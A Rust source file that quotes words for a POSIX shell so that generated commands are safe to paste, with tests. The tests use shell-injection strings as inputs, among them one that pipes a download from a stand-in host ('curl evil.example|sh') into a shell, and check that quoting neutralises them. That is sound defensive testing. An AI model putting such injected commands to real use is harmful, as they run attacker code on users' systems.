//! Commands for people to paste: what they are made of may be anybody's.

/// A word as a POSIX shell reads it back, in quotes where it needs them.
pub fn quoted(word: &str) -> String {
    let plain =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '%' | '+' | ',' | '=');
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// A command of these words.
pub fn command<S: AsRef<str>>(words: impl IntoIterator<Item = S>) -> String {
    words.into_iter().map(|word| quoted(word.as_ref())).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn plain_words_stay_as_they_are() {
        assert_eq!(
            command(["kubectl", "-n", "default", "--image=a/b:1@sha256:0"]),
            "kubectl -n default --image=a/b:1@sha256:0"
        );
        assert_eq!(quoted("default; curl evil.example|sh #"), "'default; curl evil.example|sh #'");
        assert_eq!(quoted("x'; touch a; '"), r"'x'\''; touch a; '\'''");
        assert_eq!(quoted(""), "''");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(24))]
        #[test]
        fn a_shell_reads_every_word_back(word in "[^\\x00\\r]{0,40}") {
            let said = std::process::Command::new("sh").args(["-c", &format!("printf %s {}", quoted(&word))]).output().unwrap();
            prop_assert_eq!(String::from_utf8(said.stdout).unwrap(), word);
        }
    }
}
